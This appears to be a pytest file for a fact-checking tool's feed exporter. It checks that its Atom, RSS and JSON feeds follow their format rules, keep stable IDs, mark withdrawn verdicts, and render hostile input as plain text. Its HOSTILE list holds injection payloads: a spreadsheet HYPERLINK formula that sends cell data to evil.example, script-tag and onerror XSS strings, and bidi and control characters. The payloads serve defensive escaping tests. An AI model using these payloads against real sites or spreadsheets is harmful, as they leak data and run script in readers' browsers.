"""Feeds: right by the formats' own rules, read back equal, whatever stands in a claim."""

from __future__ import annotations

import json
from dataclasses import replace
from datetime import timedelta
from html.parser import HTMLParser
from pathlib import PurePosixPath
from typing import Any
from xml.etree.ElementTree import fromstring

import feedparser
import polars as pl
import pytest
from hypothesis import given, settings

from factcheck.errors import ConfigError
from factcheck.exporters import ExportContext, Profile, profiles, render, view
from factcheck.exporters.feed_entries import sound
from factcheck.frames import UTC_MICROSECONDS
from factcheck.text import isolate
from tests.exporters.export_rows import CONTEXT, MOMENT, TEXTS, row, rows
from tests.exporters.feed_rules import ATOM, RULES, TOMB
from tests.golden.export_changes import ended, told
from tests.golden.export_release import id_of, release

RELEASE = release()
VIEW = view(RELEASE.articles, RELEASE.claims, RELEASE.verdicts, RELEASE.versions)
FEEDS = ("verdict-feed", "corrections-feed")
NOTHING = ended(RELEASE).clear()
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1)', "</script><script>alert(1)</script>", "]]><x/>&amp;&#0;",
    "\u202eevil\u202c \u2067x", "x" * 40_000, "\x00\x01\x0b\x1f\ufffe\uffff", "a\r\nb\rc\td\u2028e\x85",
    "<img src=x onerror=alert(1)>", "🙂👩‍👩‍👧", "'\" onmouseover=\"alert(1)", "<!-- -->", "&lt;b&gt;",
]  # fmt: skip


def made(name: str, profile: Profile | None = None, context: ExportContext | None = None) -> dict[str, bytes]:
    chosen = profile or profiles(None)[name]
    files = render(VIEW, chosen, context or told(RELEASE, chosen)).files
    return {PurePosixPath(file.name).suffix: file.content for file in files}


def verdicts_of(frame: pl.DataFrame, context: ExportContext = CONTEXT, **feed: Any) -> dict[str, bytes]:
    profile = Profile.model_validate({"name": "feed", "format": "feed", "feed": feed})
    files = render(frame, profile, replace(context, history=NOTHING, corrections=NOTHING)).files
    return {PurePosixPath(file.name).suffix: file.content for file in files}


def broken(files: dict[str, bytes]) -> dict[str, list[str]]:
    return {suffix: found for suffix, content in files.items() if (found := RULES[suffix](content))}


@pytest.mark.parametrize("name", FEEDS)
def test_a_feed_keeps_the_rules_of_its_format(name: str) -> None:
    files = made(name)
    assert files.keys() == RULES.keys()
    assert broken(files) == {}
    addressed = profiles(None)[name].model_copy(
        update={"feed": profiles(None)[name].feed.model_copy(update={"address": "{desk_url}/feeds/{file}"})}
    )
    files = made(name, addressed)
    assert broken(files) == {}
    assert all(f"https://desk.example.org/feeds/latest.{name}{suffix}".encode() in files[suffix] for suffix in files)


FAULTS = [
    (".atom", b"<updated>2026-11-20T09:30:00Z</updated>", b""),
    (".atom", b"<id>urn:uuid", b"<id>no iri "),
    (".atom", b"Z</updated>", b"</updated>"),
    (".atom", b'when="2026', b'when="soon 2026'),
    (".atom", b"<author>", b"<author><name>b</name>"),
    (".atom", b'href="https://desk', b'href="desk'),
    (".atom", b" term=", b" word="),
    (".atom", b"</entry>", b"</entry><entry/>"),
    (".rss", b'version="2.0"', b'version="0.9"'),
    (".rss", b"<link>https://desk.example.org</link>", b""),
    (".rss", b" GMT</pubDate>", b"</pubDate>"),
    (".rss", b' isPermaLink="false"', b""),
    (".rss", b"&#x26;", b"&"),
    (".json", b"1.1", b"1.0"),
    (".json", b'"id": "urn', b'"key": "urn'),
    (".json", b'"content_html"', b'"html"'),
    (".json", b'Z", "date_modified"', b'", "date_modified"'),
]


@pytest.mark.parametrize(("suffix", "right", "wrong"), FAULTS)
def test_the_rules_find_what_breaks_them(suffix: str, right: bytes, wrong: bytes) -> None:
    content = made("verdict-feed")[suffix]
    assert right in content
    assert RULES[suffix](content.replace(right, wrong))


@pytest.mark.parametrize("name", FEEDS)
def test_a_reader_reads_the_same_entries_in_each_format(name: str) -> None:
    files = made(name)
    items = json.loads(files[".json"])["items"]
    assert items
    for suffix in (".rss", ".atom"):
        found = feedparser.parse(files[suffix], sanitize_html=False, resolve_relative_uris=False)
        assert not found.bozo
        assert [one.id for one in found.entries] == [item["id"] for item in items]
        assert [one.link for one in found.entries] == [item["url"] for item in items]
        if suffix == ".atom":
            assert [one.title for one in found.entries] == [item["title"] for item in items]
            assert [one.updated for one in found.entries] == [item["date_modified"] for item in items]
        read = [one.content[0].value if "content" in one else one.description for one in found.entries]
        assert read == [item["content_html"] for item in items]


@pytest.mark.parametrize("name", FEEDS)
def test_every_file_says_which_version_profile_and_policy_it_is_of(name: str) -> None:
    for content in made(name).values():
        text = content.decode()
        assert all(
            one in text
            for one in (RELEASE.context.version_hash, name, "majority(min_votes=2,margin=1)", "2026-11-week-47")
        )
        assert "2026-11-20T09:30:00" in text or "20 Nov 2026 09:30:00" in text


def test_a_verdict_taken_back_stands_in_corrections_alone() -> None:
    for suffix, content in made("verdict-feed").items():
        text = content.decode()
        for name in ("en_waiting", "en_withdrawn", "en_contested"):
            assert id_of(name) not in text, suffix
    feed = fromstring(made("verdict-feed")[".atom"])
    gone = [one.get("when") for one in feed.iter(f"{TOMB}deleted-entry")]
    assert gone == ["2026-11-20T09:30:00Z", "2026-11-15T09:30:00Z"]
    assert all(not len(one) and not one.text for one in feed.iter(f"{TOMB}deleted-entry"))
    for content in made("corrections-feed").values():
        assert all(id_of(name) in content.decode() for name in ("en_waiting", "en_withdrawn", "en_formula"))


def test_an_entry_taken_back_that_comes_again_is_newer_than_its_tombstone() -> None:
    """RFC 6721, 4: a processor ignores an entry that is older than its deletion."""
    claim = "clm_" + "7" * 20
    later = MOMENT + timedelta(days=2)
    history = pl.DataFrame(
        {"claim_id": [claim] * 2, "version": [4, 5], "before_verdict": ["verified", None],
         "verdict": [None, "verified"], "committed_at": [MOMENT + timedelta(days=1), later]},
        schema_overrides={"committed_at": UTC_MICROSECONDS},
    )  # fmt: skip
    context = replace(CONTEXT, history=history, corrections=NOTHING)
    files = render(rows(row(claim_id=claim)), Profile(name="feed", format="feed"), context).files
    feed = fromstring(next(file.content for file in files if file.name.endswith(".atom")))
    assert not list(feed.iter(f"{TOMB}deleted-entry"))
    assert feed.findtext(f"{ATOM}entry/{ATOM}updated") == "2026-11-22T09:30:00Z"


def test_ids_never_change() -> None:
    """Neither with the site, the profile, the words, the language nor the version; between desks they differ."""
    claim = row(claim_id="clm_" + "1" * 20)
    other = row(claim_id="clm_" + "1" * 20, quote="Other.", verdict="disputed", reason="false")

    def ids(context: ExportContext, one: dict[str, Any]) -> str | None:
        return fromstring(verdicts_of(rows(one), context)[".atom"]).findtext(f"{ATOM}entry/{ATOM}id")

    first = ids(replace(CONTEXT, dataset_id="one"), claim)
    moved = replace(CONTEXT, dataset_id="one", desk_url="https://new.example", language="ar", version=99)
    assert ids(moved, other) == first
    assert ids(replace(CONTEXT, dataset_id="two"), claim) != first
    # What is written down here was given to readers: it never changes.
    assert first == "urn:uuid:bb869772-25dd-5726-8263-f469ae78f2c9"


class Tags(HTMLParser):
    """The elements, attributes and texts of a piece of HTML."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.names: set[str] = set()
        self.quoted = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append(tag)
        self.names |= {name for name, _ in attrs}

    def handle_data(self, data: str) -> None:
        if self.found[-1:] == ["blockquote"]:
            self.quoted += data


def check_hostile(text: str) -> None:
    frame = rows(
        row(quote=text or "x", claimant=text, publisher=text, title=text, rationales=[text], evidence=[text], lang="fa")
    )
    context = replace(CONTEXT, desk_name=text or "x", tag="week-47", policy="majority()")
    files = verdicts_of(frame, context)
    assert broken(files) == {}
    title = sound(f"درست: {isolate(text or 'x')}")
    item = json.loads(files[".json"])["items"][0]
    atom, rss = (fromstring(files[suffix]) for suffix in (".atom", ".rss"))
    assert title == item["title"]
    assert title == atom.findtext(f"{ATOM}entry/{ATOM}title") == rss.findtext("channel/item/title")
    html = item["content_html"]
    assert html == atom.findtext(f"{ATOM}entry/{ATOM}content") == rss.findtext("channel/item/description")
    read = Tags(html)
    assert set(read.found) <= {"div", "blockquote", "p", "bdi", "strong", "ul", "li", "a"}
    assert read.names <= {"lang", "dir", "href", "rel"}
    assert read.quoted == sound(text or "x")


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_text_in_every_field(text: str) -> None:
    check_hostile(text)


@settings(max_examples=200)
@given(TEXTS)
def test_any_text_is_read_back_equal(text: str) -> None:
    check_hostile(text)


def test_what_no_xml_holds_is_replaced() -> None:
    assert sound("a\x00\ud800\ufffeb\tc\n\U0001f642") == "a\ufffd\ufffd\ufffdb\tc\n\U0001f642"


def test_the_newest_so_many_stand_in_it_newest_first() -> None:
    frame = rows(*(row(claim_id=f"clm_{n:020x}", modified_at=MOMENT + timedelta(hours=n)) for n in range(9)))
    profile = Profile.model_validate({"name": "feed", "format": "feed", "feed": {"entries": 4, "files": ["json"]}})
    done = render(frame, profile, replace(CONTEXT, history=NOTHING, corrections=NOTHING))
    urls = [item["url"] for item in json.loads(done.files[0].content)["items"]]
    assert urls == [f"https://example.org/claims/clm_{n:020x}" for n in (8, 7, 6, 5)]
    assert (done.accepted, dict(done.rejected["code"].value_counts().iter_rows())) == (4, {"OLDER": 5})


def test_another_desks_verdict_is_not_ours_to_publish() -> None:
    frame = rows(row(verdict_origin="import", verdict_source="Desk X"))
    assert json.loads(verdicts_of(frame)[".json"])["items"] == []


def test_a_site_without_an_address_is_refused() -> None:
    with pytest.raises(ConfigError, match="no web address"):
        verdicts_of(rows(row()), replace(CONTEXT, desk_url="desk"))
